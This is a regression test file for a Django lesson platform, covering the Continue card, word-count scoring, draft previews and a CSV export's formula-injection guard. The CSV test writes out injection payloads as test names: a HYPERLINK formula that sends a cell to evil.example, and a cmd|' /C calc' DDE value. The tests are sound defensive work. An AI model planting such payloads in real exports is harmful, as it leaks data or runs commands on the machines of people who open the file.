"""Deliberate bugs that once passed the suite; each test here fails if its bug comes back.

- the dashboard's Continue picking the oldest lesson in progress instead of the latest read;
- a reflection of exactly the minimum word count not paying (an off-by-one);
- a staff preview of a draft lesson recording reading progress on the web;
- the CSV export losing its guard against cells a spreadsheet would run as a formula.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from assessments import services
from assessments.models import PointsEntry
from lessons.models import Lesson, LessonProgress
from lessons.services import progress_record
from tests.assessments.conftest import words
from tests.assessments.doors import page_text
from tests.factories import CategoryFactory, FrameworkFactory, LessonFactory, SectionFactory, TurnFactory, TurnStepFactory

# --- Continue: the most recently read lesson --------------------------------------------------


@pytest.fixture
def two_in_progress(student, course):
    """Two lessons of the Core Track that the student has started, neither done."""
    first = course.lesson
    second = LessonFactory(module=course.module, number=4, title="Can Creativity Be Learned?", slug="creativity",
                           position=first.position + 1)
    part = SectionFactory(lesson=second, heading="The habit", position=1)
    progress_record(user=student, lesson=first)
    progress_record(user=student, lesson=second, section=part)
    return first, second, part


def read_at(student, lesson, when) -> None:
    LessonProgress.objects.filter(user=student, lesson=lesson).update(updated_at=when)


def continue_card(page: str) -> str:
    start = page.index('id="continue-heading"')
    return page[start:page.index("</section>", start)]


@pytest.mark.parametrize("latest", ["first", "second"])
def test_continue_goes_to_the_most_recently_read_lesson_in_progress(student_client, student, two_in_progress, latest):
    first, second, part = two_in_progress
    now = timezone.now()
    newer, older = (first, second) if latest == "first" else (second, first)
    read_at(student, older, now - timedelta(days=3))
    read_at(student, newer, now - timedelta(hours=1))

    card = continue_card(student_client.get("/").content.decode())

    assert f"Lesson {newer.number}: {newer.title}" in page_text(card.encode())
    assert f"Lesson {older.number}: {older.title}" not in page_text(card.encode())
    anchor = f"#{part.anchor}" if newer == second else ""
    assert f'href="{newer.get_absolute_url()}{anchor}"' in card
    assert "Continue reading" in card


def test_reading_the_older_lesson_again_makes_it_the_one_to_continue(student_client, student, two_in_progress):
    first, second, _part = two_in_progress
    read_at(student, first, timezone.now() - timedelta(days=3))
    read_at(student, second, timezone.now() - timedelta(days=1))

    progress_record(user=student, lesson=first)  # the student opens the older lesson again

    assert f"Lesson {first.number}: {first.title}" in page_text(continue_card(student_client.get("/").content.decode()).encode())


def test_a_done_lesson_is_not_the_one_to_continue_even_if_read_last(student_client, student, two_in_progress):
    first, second, _part = two_in_progress
    read_at(student, second, timezone.now() - timedelta(days=3))
    LessonProgress.objects.filter(user=student, lesson=first).update(completed_at=timezone.now(),
                                                                     updated_at=timezone.now())

    card = page_text(continue_card(student_client.get("/").content.decode()).encode())

    assert f"Lesson {second.number}: {second.title}" in card


# --- Exactly the minimum word count pays -------------------------------------------------------------


@pytest.mark.parametrize("min_words", [1, 10, 40])
def test_a_reflection_of_exactly_the_minimum_word_count_pays(door, course, min_words):
    course.patterns.min_words = min_words
    course.patterns.save()

    exactly = door.reflect("skills", 2, words(min_words))

    assert exactly.points == 15
    assert PointsEntry.objects.get(user=door.user).amount == 15


@pytest.mark.parametrize("min_words", [10, 40])
def test_one_word_fewer_than_the_minimum_does_not_pay(door, course, min_words):
    course.patterns.min_words = min_words
    course.patterns.save()

    assert door.reflect("skills", 2, words(min_words - 1)).points == 0


# --- Staff previews of drafts record nothing ------------------------------------------------------------


@pytest.fixture
def draft(course):
    lesson = LessonFactory(module=course.module, number=9, slug="draft-lesson", status=Lesson.Status.DRAFT)
    section = SectionFactory(lesson=lesson, heading="Half written", position=1)
    turn = TurnFactory(lesson=lesson, framework=None)
    TurnStepFactory(turn=turn, number=1, title="Say something", points=5, min_words=1)
    return lesson, section


def test_a_staff_preview_of_a_draft_records_no_progress_on_the_web(author_client, author, draft):
    lesson, section = draft

    guide = author_client.get(f"/lessons/{lesson.slug}/")
    form = author_client.post(f"/lessons/{lesson.slug}/progress/", {"section": section.pk, "finished": "on"})
    script = author_client.post(f"/lessons/{lesson.slug}/progress/", {"section": section.pk},
                                HTTP_ACCEPT="application/json")

    assert guide.status_code == 200
    assert form.status_code == 302
    assert script.json() == {"furthest_section": None, "guide_finished": False, "preview": True}
    assert not LessonProgress.objects.filter(user=author).exists()
    # The dashboard does not offer to continue a draft either.
    assert lesson.title not in author_client.get("/").content.decode()


def test_completing_a_drafts_turn_in_preview_marks_no_lesson_done(author_client, author, draft):
    lesson, _section = draft
    author_client.post(f"/lessons/{lesson.slug}/your-turn/complete/")

    assert not LessonProgress.objects.filter(user=author).exists()


def test_the_same_staff_member_reading_a_published_lesson_does_record_progress(author_client, author, course):
    author_client.get(f"/lessons/{course.lesson.slug}/")

    assert LessonProgress.objects.filter(user=author, lesson=course.lesson).exists()


# --- The CSV export's formula guard ------------------------------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_guards_cells_a_spreadsheet_would_run(student_client, student, course, lead):
    framework = FrameworkFactory(name=f'{lead}HYPERLINK("https://evil.example/?x="&A1,"Click")', slug="evil")
    risky = CategoryFactory(framework=framework, slug="risky", name=f"{lead}cmd|' /C calc'!A0", position=0)
    CategoryFactory(framework=framework, slug="plain", name="Plain", position=1)
    course.turn.framework = framework
    course.turn.save()
    services.snapshot_record(user=student, turn=course.turn, ratings={"risky": 4, "plain": 6})

    response = student_client.get("/skills/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["snapshot_id", "taken_at", "framework", "category", "rating"]
    cells = {(row[2], row[3], row[4]) for row in rows[1:]}
    assert cells == {
        ("'" + framework.name, "'" + risky.name, "4"),
        ("'" + framework.name, "Plain", "6"),
    }


def test_a_name_with_a_formula_sign_inside_is_left_alone(student_client, student, course):
    framework = FrameworkFactory(name="Mix = feel + craft", slug="fine")
    CategoryFactory(framework=framework, slug="a", name="A-side @ home", position=0)
    course.turn.framework = framework
    course.turn.save()
    services.snapshot_record(user=student, turn=course.turn, ratings={"a": 5})

    rows = list(csv.reader(io.StringIO(student_client.get("/skills/export.csv").content.decode())))

    assert [(row[2], row[3]) for row in rows[1:]] == [("Mix = feel + craft", "A-side @ home")]
